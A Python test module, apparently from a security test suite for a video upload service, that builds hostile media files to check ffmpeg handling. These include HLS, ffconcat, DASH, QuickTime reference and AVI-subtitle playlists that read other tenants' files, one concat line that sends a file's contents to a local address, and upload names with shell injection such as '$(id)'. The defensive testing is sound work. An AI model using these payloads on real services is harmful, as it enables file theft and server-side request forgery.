"""Files that name other files and addresses: each is tried at the door and behind it.

ffmpeg with its defaults opens what most of them name: playlists, lists of files, session
descriptions, references of QuickTime, subtitles within AVI.
"""

from pathlib import Path
from struct import pack

from tests.hostile.case import Case, Make, both, text
from tests.hostile.kitchen import Kitchen
from tests.hostile.trial import Scene

NO_VIDEO = ("not_a_video",)
HLS = "#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:2\n{}#EXTINF:2,\n{}\n#EXT-X-ENDLIST\n"
DASH = (
    '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
    'mediaPresentationDuration="PT2S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011">'
    '<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1">'
    "<BaseURL>{}</BaseURL></Representation></AdaptationSet></Period></MPD>"
)
IMF = (
    '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016">'
    "<Id>urn:uuid:8b7a3d2e-0000-4000-8000-000000000000</Id><EditRate>24 1</EditRate>"
    "<SegmentList><Segment><SequenceList/></Segment></SegmentList></CompositionPlaylist>"
)


def box(kind: bytes, *held: bytes) -> bytes:
    """A box of an MP4 or MOV."""
    body = b"".join(held)
    return pack(">I4s", 8 + len(body), kind) + body


def chunk(kind: bytes, *held: bytes) -> bytes:
    """A chunk of an AVI; odd ones are filled up."""
    body = b"".join(held)
    return kind + pack("<I", len(body)) + body + b"\0" * (len(body) & 1)


def _reference(kitchen: Kitchen, scene: Scene) -> bytes:
    """A QuickTime movie that is a list of where the movie is (Inside QuickTime, `rmra`)."""
    url = f"file://{scene.movie}".encode() + b"\0"
    rdrf = box(b"rdrf", pack(">I4sI", 0, b"url ", len(url)), url)
    return box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov", box(b"rmra", box(b"rmda", rdrf)))


def _elsewhere(kind: bytes) -> Make:
    """A movie whose pictures are said to be in another file (8.7.2; `alis` is QuickTime's)."""

    def make(kitchen: Kitchen, scene: Scene) -> bytes:
        data = kitchen.data("plain")
        other = kitchen.data("secret_mp4")
        del other
        entry = data.index(b"dref") + 12
        length = int.from_bytes(data[entry : entry + 4], "big")
        target = str(scene.movie.with_suffix(".mp4")).encode()
        if kind == b"url ":
            named = box(b"url ", bytes(4), b"file://" + target + b"\0")
        else:
            named = box(b"alis", bytes(4), _alias(target))
        grown = len(named) - length
        out = bytearray(data[:entry] + named + data[entry + length :])
        # Every box around it is longer now.
        for around in (b"dref", b"dinf", b"minf", b"mdia", b"trak", b"moov"):
            at = data.rindex(around, 0, entry) - 4
            size = int.from_bytes(out[at : at + 4], "big") + grown
            out[at : at + 4] = size.to_bytes(4, "big")
        return bytes(out)

    return make


def _alias(target: bytes) -> bytes:
    """An alias record of version 2 with a path of its own (kind 18, a POSIX path from the root)."""
    name = Path(target.decode()).name.encode()[:27]
    head = pack(">4sHH", b"\0\0\0\0", 150, 2) + pack(">H", 0) + b"\4disk".ljust(28, b"\0")
    head += bytes(8) + bytes(4) + bytes([len(name)]) + name.ljust(63, b"\0")
    head = head.ljust(150, b"\0")
    return (
        head + pack(">HH", 18, len(target)) + target + b"\0" * (len(target) & 1) + b"\xff\xff\0\0"
    )


def _subtitled(kitchen: Kitchen, scene: Scene) -> bytes:
    """An AVI whose text track holds a playlist (GAB2 subtitles are demuxed by whatever fits)."""
    listing = HLS.format("", f"file://{scene.movie}").encode()
    gab2 = b"GAB2\0" + pack("<HI", 2, 2) + b"x\0" + pack("<HI", 4, len(listing)) + listing
    avih = pack("<14I", 40000, 0, 0, 0x10, 50, 0, 2, 0, 160, 90, 0, 0, 0, 0)
    strh = b"vidsFMP4" + pack("<10I", 0, 0, 0, 1, 25, 0, 50, 0, 0, 0) + pack("<4h", 0, 0, 160, 90)
    strf = pack("<IiiHH4sIiiII", 40, 160, 90, 1, 24, b"FMP4", 43200, 0, 0, 0, 0)
    txts = b"txts\0\0\0\0" + pack("<10I", 0, 0, 0, 1, 25, 0, 1, 0, 0, 0) + pack("<4h", 0, 0, 0, 0)
    headers = chunk(
        b"LIST",
        b"hdrl",
        chunk(b"avih", avih),
        chunk(b"LIST", b"strl", chunk(b"strh", strh), chunk(b"strf", strf)),
        chunk(b"LIST", b"strl", chunk(b"strh", txts), chunk(b"strf", bytes(40))),
    )
    movie = chunk(b"LIST", b"movi", chunk(b"01tx", gab2), chunk(b"00dc", bytes(64)))
    return chunk(b"RIFF", b"AVI ", headers, movie)


def _attack(name: str, words: str, quick: bool = True) -> tuple[Case, ...]:
    return both(Case(of="attack", name=name, make=text(words), ends=NO_VIDEO, quick=quick))


ATTACKS = (
    *_attack("HLS, another tenant's film by its path", HLS.format("", "{movie}")),
    *_attack("HLS, the same by a URL", HLS.format("", "file://{movie}"), quick=False),
    *_attack("HLS, a text file", HLS.format("", "{text}"),
             quick=False),
    *_attack("HLS, a neighbour's name", HLS.format("", "secret.ts")),
    *_attack("HLS, an address", HLS.format("", "http://127.0.0.1:{port}/a.ts")),
    *_attack("HLS, a key from an address", HLS.format(
        '#EXT-X-KEY:METHOD=AES-128,URI="http://127.0.0.1:{port}/key"\n', "{movie}")),
    *_attack("HLS, words of a file in an address", HLS.format(
        "", "concat:http://127.0.0.1:{port}/?|file://{text}")),
    *_attack("HLS, another list", "#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n"
                                  "http://127.0.0.1:{port}/b.m3u8\n", quick=False),
    *_attack("HLS, a piece of a file", HLS.format("", "subfile,,start,0,end,9,,:{text}"),
             quick=False),
    *_attack("ffconcat, a neighbour's name", "ffconcat version 1.0\nfile secret.ts\n"),
    *_attack("ffconcat, a path", "ffconcat version 1.0\nfile {movie}\n"),
    *_attack("ffconcat, an address", "ffconcat version 1.0\nfile http://127.0.0.1:{port}/a\n",
             quick=False),
    *_attack("DASH, another tenant's film", DASH.format("{folder}/secret.mp4")),
    *_attack("DASH, an address", DASH.format("http://127.0.0.1:{port}/a.mp4")),
    *_attack("SDP, a port", "v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\n"
                            "m=video {port} RTP/AVP 96\na=rtpmap:96 H264/90000\n"),
    *_attack("RTSP, an address", "rtsp://127.0.0.1:{port}/x\n", quick=False),
    *_attack("VobSub, a neighbour", "# VobSub index file, v7 (do not modify this line!)\n"
                                    "id: en, index: 0\ntimestamp: 00:00:00:000, filepos: 0\n",
             quick=False),
    *_attack("IMF, a list of files", IMF, quick=False),
    *_attack("SVG, an address", '<svg xmlns="http://www.w3.org/2000/svg"><image href='
                                '"http://127.0.0.1:{port}/a.png"/></svg>', quick=False),
    Case(of="attack", name="QuickTime, a reference movie", make=_reference,
         ends=("truncated", "no_video_stream", "unreadable_container"), quick=True),
    Case(of="attack", name="QuickTime, pictures in another file by URL", make=_elsewhere(b"url "),
         ends=("verified",)),
    Case(of="attack", name="QuickTime, pictures in another file by alias",
         make=_elsewhere(b"alis"), ends=("verified", "unreadable_video")),
    *both(Case(of="attack", name="AVI, a playlist as subtitles", make=_subtitled, quick=True,
               ends=("unreadable_video",))),
)  # fmt: skip

NAMES = tuple(
    Case(of="name", name=f"called {name!r}", upload=name, ends=("verified", "name_refused"),
         make=lambda kitchen, scene: kitchen.path("plain"))
    for name in ("team/%03d.mp4", "team/-i.mp4", "team/a|b.mp4", "team/it's; $(id).mp4",
                 "team/concat:secret.ts", "team/a\nb.mp4", "team/film.m3u8", "http:/x/y.mp4")
)  # fmt: skip
"""An upload's name is a stranger's word too."""
